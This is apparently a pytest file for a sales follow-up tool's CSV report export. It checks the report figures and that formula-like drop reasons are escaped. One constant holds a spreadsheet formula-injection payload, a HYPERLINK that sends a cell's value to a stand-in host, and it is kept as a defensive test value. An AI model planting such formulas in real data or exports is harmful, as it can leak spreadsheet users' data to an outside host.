"""The report as CSV rows (tui/report_csv.py), what `followup report --csv` and the reports screen
write: the hand-counted book of tests/storage/test_report_figures.py, plus a drop whose reason a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

from storage import actions
from storage.reads import reports
from tests.conftest import FROZEN, TZ
from tests.storage.test_report_figures import mixed_book, utc
from tui.report_csv import HEADER, report_rows, write_rows

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"hi")'


def rows_of(figure: str, rows: list[list[str]]) -> list[list[str]]:
    return [row[1:] for row in rows if row[0] == figure]


def found() -> reports.Report:
    mixed_book()
    pid = actions.add_prospect({"name": "Trap"}, now=utc(11, 1, 9))
    actions.drop(pid, FORMULA, now=utc(11, 2, 9), tz=TZ)
    return reports.report(reports.Period.back_from("30d", FROZEN, TZ), TZ)


def test_every_figure_is_rows_a_pivot_table_takes_apart(book, frozen):
    rows = report_rows(found(), TZ)
    assert rows[0] == HEADER == ["figure", "key", "subkey", "measure", "value"]
    assert all(len(row) == 5 and all(isinstance(cell, str) for cell in row) for row in rows)
    assert rows_of("period", rows) == [["", "", "name", "30d"], ["", "", "from", "2026-10-24"],
                                       ["", "", "to", "2026-11-23T09:30:00+01:00"], ["", "", "timezone", TZ]]
    # Won closed after no touch, Lost and Trap dropped at none
    assert rows_of("persistence", rows) == [
        ["won", "0", "prospects", "1"], ["dropped", "0", "prospects", "2"],
        ["", "", "won_median_touches", "0"], ["", "", "dropped_total", "2"],
        ["", "", "dropped_before_fifth_touch", "2"], ["", "", "dropped_before_fifth_touch_share", "1"],
    ]
    assert rows_of("promises", rows) == [["2026-W49", "", "kept", "0"], ["2026-W49", "", "late", "0"],
                                         ["2026-W49", "", "open", "1"]]  # Promised, Mon 30 Nov
    # calls: Ref talked, Ref no answer, New left a message; email: Ref's replied, New wrote
    assert rows_of("channels", rows) == [
        ["call", "", "out", "3"], ["call", "", "replies", "1"], ["call", "", "answered", "1"],
        ["call", "", "reply_rate", "0.3333"],
        # New's email in is a reply, not an answer to one of the rep's: a rate of 1, never 2
        ["email", "", "out", "1"], ["email", "", "replies", "2"], ["email", "", "answered", "1"],
        ["email", "", "reply_rate", "1"],
    ]
    assert rows_of("outcomes", rows) == [["", "", "won", "1"], ["", "", "dropped", "2"], ["", "", "close_rate", "0.3333"],
                                         ["", "", "value_won", "100000"], ["", "", "median_days_to_close", "1"]]
    assert rows_of("hours", rows) == [
        ["Mon", "11", "out", "3"], ["Mon", "11", "replies", "2"], ["Mon", "11", "answered", "2"],
        ["Mon", "11", "reply_rate", "0.6667"],
        ["Tue", "15", "out", "1"], ["Tue", "15", "replies", "0"], ["Tue", "15", "answered", "0"],
        ["Tue", "15", "reply_rate", "0"],
        ["Sun", "23", "out", "0"], ["Sun", "23", "replies", "1"], ["Sun", "23", "answered", "0"],
        ["Sun", "23", "reply_rate", ""],
    ]
    assert rows_of("best_times", rows) == []  # no hour has five touches out
    assert rows_of("activity", rows)[:2] == [["2026-W43", "", "due", "0"], ["2026-W44", "", "due", "0"]]
    assert rows_of("activity", rows)[2:4] == [["2026-W45", "call", "out", "2"], ["2026-W45", "", "due", "2"]]
    pipeline = rows_of("pipeline", rows)
    assert pipeline[:4] == [["section", "promised", "prospects", "1"], ["section", "promised", "value", "5000"],
                            ["section", "overdue", "prospects", "2"], ["section", "overdue", "value", "700"]]
    assert pipeline[-2:] == [["kind", "no next step", "prospects", "1"], ["kind", "no next step", "value", "2000"]]


def test_a_reason_is_written_as_typed_never_as_a_formula(book, frozen):
    reasons = rows_of("drop_reasons", report_rows(found(), TZ))
    assert reasons == [["'" + FORMULA, "", "count", "1"], ["No budget", "", "count", "1"]]  # the list's


def test_written_as_the_books_other_csv_files(book, frozen):
    rows = report_rows(found(), TZ)
    out = io.StringIO()
    assert write_rows(rows, out) == len(rows) - 1
    text = out.getvalue()
    assert text.startswith('\ufeff"figure","key","subkey","measure","value"\r\n')
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == rows
